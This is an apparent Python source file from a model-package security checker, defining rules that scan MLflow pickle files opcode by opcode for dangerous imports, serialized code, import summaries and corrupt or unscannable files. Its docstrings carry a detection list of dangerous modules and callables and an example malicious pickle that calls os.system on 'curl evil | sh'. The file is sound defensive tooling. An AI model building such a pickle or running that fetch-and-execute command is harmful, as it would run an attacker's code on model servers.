"""MC620-MC623: static pickle scanning (dangerous imports, serialized code, summary, corrupt)."""

from __future__ import annotations

from collections import defaultdict

from modelcheck.formats.pickle.policy import dangerous, imported_modules, serialized_code
from modelcheck.package.pickle_files import pickle_files
from modelcheck.results import Hit, Level
from modelcheck.rule import rule

_SEC = ("security", "pickle")


def _where(pf) -> str:
    return f"{pf.path} ({pf.why})"


@rule("MC620", "pickle-dangerous-import", Level.ERROR, tags=_SEC, security_severity=9.8)
def pickle_dangerous_import(pkg):
    """A pickle in the package imports a callable that can run commands or load code.

    What it checks
    Every pickle-bearing file (named by MLmodel, with a pickle extension, or whose bytes are a
    pickle; members of zip checkpoints; pickles nested inside pickles; the base64 pickles a
    diviner GroupedPmdarima stores in its JSON `model.div`, keys and values, which its loader
    unpickles) is read opcode by opcode, never loaded. Globals the pickle imports (`GLOBAL`,
    `STACK_GLOBAL` including names built through the memo, `INST`, `OBJ`) are reported when
    they belong to modules such as `os`, `posix`, `subprocess`, `socket`, `shutil`, `sys`,
    `runpy`, `importlib`, `pickle`, `marshal`, `ctypes`, or are callables such as
    `builtins.eval/exec/compile/__import__/open`, `types.CodeType`,
    `operator.attrgetter/methodcaller`, `torch.load`, `joblib.load`. Names reaching those
    through attributes (`posixpath.os`), look-alike Unicode spellings, and names computed at
    load time are reported too. `builtins.getattr` is judged by what it
    reaches: `getattr(obj, "method")` with a constant name on an object or class built from
    plain imports is how CPython pickles a bound method (AzureML AutoML models hold such
    methods) and is not reported; a computed name, a dunder (`__globals__`), a name such as
    `system` or `eval`, a getattr of a getattr, a getattr of a dangerous global or module
    (`getattr(numpy, "load")`), or a getattr result that is called while loading is. A file
    MLmodel does not reference is scanned and reported all the same: a hostile file is
    hostile wherever it lies.

    Why it matters
    Loading a pickle calls whatever it imports: `pickle.load` of such a file runs an
    attacker's command with the permissions of the training job or model server. Real MLflow
    flavors never import these.

    Example
    `model.pkl` whose opcodes are `GLOBAL 'os system'`, `BINUNICODE 'curl evil | sh'`,
    `REDUCE`: loading the model runs the shell command.

    How to fix
    Do not load the package. Rebuild the model from trusted code and data, and log it again
    with MLflow; investigate where the file came from.
    """
    for pf in pickle_files(pkg):
        if pf.scan is None:
            continue
        stray = "" if pf.referenced else " (a file MLmodel does not reference)"
        for ref, reason in dangerous(pf.scan):
            inner = f" (inside {ref.where})" if ref is not None and ref.where else ""
            name = ref.qualname if ref is not None else "computed global"
            yield Hit(f"{pf.path}{stray} imports {name}{inner} when unpickled: {reason}; "
                      "loading this file can execute arbitrary code",
                      file=pf.path, pointer=pf.pointer, key=name,
                      fix="do not load this package; re-create the model from trusted code")


@rule("MC621", "pickle-serialized-code", Level.WARNING, tags=_SEC, security_severity=5.0)
def pickle_serialized_code(pkg):
    """A pickle carries serialized Python functions, classes or code objects.

    What it checks
    Pickles that rebuild code when loaded: cloudpickle's `_make_function`,
    `_make_skeleton_class`, `_builtin_type('CodeType')`, `_function_setstate`, dill's
    `_create_function`/`_create_code`. The finding names the serialized functions and classes
    (their `__qualname__`) where the pickle records them.

    Why it matters
    A cloudpickled `PythonModel` (MLflow's `python_model.pkl`) or a pipeline holding a custom
    transformer ships byte code, not a reference to installed code: it runs whatever it
    contains, only works on the same Python minor version, and cannot be reviewed without
    disassembling it. This is how MLflow itself saves `PythonModel` objects, so it is a
    warning, not an error: review where the package comes from.

    Example
    `python_model.pkl` of a 2.x custom pyfunc: `cloudpickle.cloudpickle._make_function`
    rebuilding `MyModel.predict`.

    How to fix
    Prefer models-from-code (`python_model="model.py"`), which ships reviewable source, and
    keep custom transformers in an importable module listed in `code_paths`.
    """
    pm = (pkg.pyfunc or {}).get("python_model")
    for pf in pickle_files(pkg):
        if pf.scan is None or (isinstance(pm, str) and pf.path == pm.strip("/")):
            continue  # a pickled PythonModel is reported by MC624
        rebuilders = serialized_code(pf.scan)
        if not rebuilders:
            continue
        names = list(dict.fromkeys(pf.scan.qualnames))
        shown = ", ".join(names[:8]) + (f" and {len(names) - 8} more" if len(names) > 8 else "")
        what = f"serialized code for {shown}" if names else "serialized code"
        yield Hit(f"{pf.path} holds {what}, rebuilt and run when it is unpickled "
                  f"(via {', '.join(rebuilders[:4])}{'...' if len(rebuilders) > 4 else ''})",
                  file=pf.path, pointer=pf.pointer,
                  fix="save the model as models-from-code or move custom classes into "
                      "code_paths modules")


@rule("MC622", "pickle-imports", Level.NOTE, tags=("pickle",))
def pickle_imports(pkg):
    """Summary of what loading each pickle will import, grouped by module.

    What it checks
    For every scanned pickle, the modules and names its globals import (those not already
    reported as dangerous or as serialized code).

    Why it matters
    Loading imports each of these modules, so each must be installed in the serving
    environment at a compatible version; the list also lets a reviewer confirm the pickle
    holds only what the flavor should (e.g. `sklearn.*`, `numpy.*`).

    Example
    `model.pkl imports numpy (dtype, ndarray); sklearn.linear_model._logistic
    (LogisticRegression)`.

    How to fix
    Nothing to fix; check that every listed top-level module is in requirements.txt.
    """
    from modelcheck.formats.pickle.policy import classify

    for pf in pickle_files(pkg):
        if pf.scan is None or not pf.scan.globals:
            continue
        groups: dict[str, list[str]] = defaultdict(list)
        for ref in pf.scan.globals:
            if classify(ref).kind == "import":
                groups[ref.module].append(ref.name)
        extra = [m for m in imported_modules(pf.scan) if m not in groups
                 and not any(g.module == m for g in pf.scan.globals)]
        if not groups and not extra:
            continue
        parts = [f"{m} ({', '.join(sorted(set(n)))})" for m, n in sorted(groups.items())]
        parts += [f"{m} (module)" for m in sorted(extra)]
        yield Hit(f"loading {pf.path} imports: {'; '.join(parts)}", file=pf.path,
                  pointer=pf.pointer)


@rule("MC623", "pickle-unreadable", Level.ERROR, tags=("pickle",))
def pickle_unreadable(pkg):
    """A pickle-bearing file is truncated, corrupt, empty, or could not be scanned.

    What it checks
    The opcode scan of each pickle file: a stream that ends before `STOP`, an unknown opcode,
    a memo read before it is written, a stack underflow, a corrupt zip or compressed stream,
    or an empty file are errors when MLmodel references the file (directly, or a directory
    holding it): the model will not load. In a file MLmodel does not reference they are
    warnings: MLflow does not load it. A file that could not be scanned is an error wherever
    it lies, because unscanned code is not trusted: unreadable, over the scan size limit,
    lz4-compressed, or a scan that hit a cap (5,000,000 opcodes, a stack of 1,000,000
    items, nesting deeper than 4, a zip member or nested pickle over 256 MiB, 512 MiB
    decompressed) or the 20-second pickle time budget of the package.

    Which size limit applies where: a local package's large files are memory-mapped and
    scanned in place, whatever their size; `--max-pickle-bytes` (default 512 MiB) bounds only
    what is downloaded from a remote package (S3, GCS, an MLflow server...), and a remote
    pickle over it is reported here, unscanned. Bytes inside a pickle that merely start like
    one (a raw numpy scalar beginning `\x80\x02`, a tensor in a zip checkpoint) are data
    when they do not parse, unless the pickle hands them to `pickle.loads` or
    `torch.storage._load_from_bytes`; joblib's raw array bytes after a `NumpyArrayWrapper`
    are skipped exactly as joblib reads them.

    Why it matters
    A truncated `model.pkl` (an interrupted upload, a partial download, a Git LFS checkout
    gone wrong) fails at load time with an `UnpicklingError` or `EOFError`, usually in
    production. A file that could not be scanned may hide what MC620 looks for.

    Example
    `model.pkl` of 0 bytes, or cut at half its size; a 2 GB `model.pkl` in an S3 package
    checked with the default `--max-pickle-bytes`.

    How to fix
    Re-download or re-log the model. For a file that could not be scanned: raise
    `--max-pickle-bytes` for a remote package (or check a local copy), or review the file by
    other means and record the decision in a baseline. Remove stray pickles MLmodel does not
    reference.
    """
    for pf in pickle_files(pkg):
        if pf.problem is not None:
            why = pf.problem
            if pf.problem_kind == "too-large":
                why += (" (--max-pickle-bytes bounds what is read from a remote package; local "
                        "files are scanned in place whatever their size)")
            yield Hit(f"{pf.path} ({pf.why}) could not be scanned: {why}; unscanned code is "
                      "not trusted", file=pf.path, pointer=pf.pointer, key=pf.problem_kind,
                      fix="raise --max-pickle-bytes, check a local copy, or review the file "
                          "by other means before loading it")
            continue
        if pf.scan is None:
            continue
        for p in pf.scan.problems:
            if pf.referenced:
                yield Hit(f"{_where(pf)} is not a loadable pickle: {p}", file=pf.path,
                          pointer=pf.pointer, key=p.split(":", 1)[0],
                          fix="re-download or re-log the model; the file is truncated or "
                              "corrupt")
            else:
                yield Hit(f"{_where(pf)} is not a loadable pickle: {p}; loading the model "
                          "does not read it", file=pf.path, level=Level.WARNING,
                          key=p.split(":", 1)[0],
                          fix="remove the stray file from the package, or replace it with a "
                              "good copy if the model's own code loads it")
        for lim in pf.scan.limits:
            yield Hit(f"{_where(pf)} was not fully scanned: {lim}; unscanned code is not "
                      "trusted", file=pf.path, pointer=pf.pointer, key="limit:" + lim[:40],
                      fix="review this file by other means before loading it")
